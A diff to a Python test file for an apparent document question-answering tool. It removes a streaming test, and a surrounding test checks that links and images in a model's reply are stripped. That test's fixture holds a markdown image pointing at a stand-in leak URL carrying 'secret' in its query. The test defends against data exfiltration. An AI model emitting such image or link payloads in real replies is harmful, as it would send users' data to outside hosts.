@@ -112,13 +112,3 @@ def test_links_and_images_of_a_reply_do_not_survive(ask) -> None:  # noqa: ANN00
     answer, _ = ask(QUESTION, says(f"![x](http://leak.example/?q=secret) {FAITHFUL} See [here](http://leak.example)."))
     assert "leak.example" not in to_markdown(answer)
     assert "leak.example" not in answer.text
-
-
-def test_the_draft_is_told_piece_by_piece(bees: Library, bees_folder: Path) -> None:
-    pieces: list[str] = []
-    with Server(says(FAITHFUL)) as server:
-        settings = load(model="openai:bee", base_url=server.url)
-        with Library.open(bees_folder, settings=settings) as library:
-            library.ask(QUESTION, on_text=pieces.append)
-    assert len(pieces) > 3
-    assert "".join(pieces) == FAITHFUL
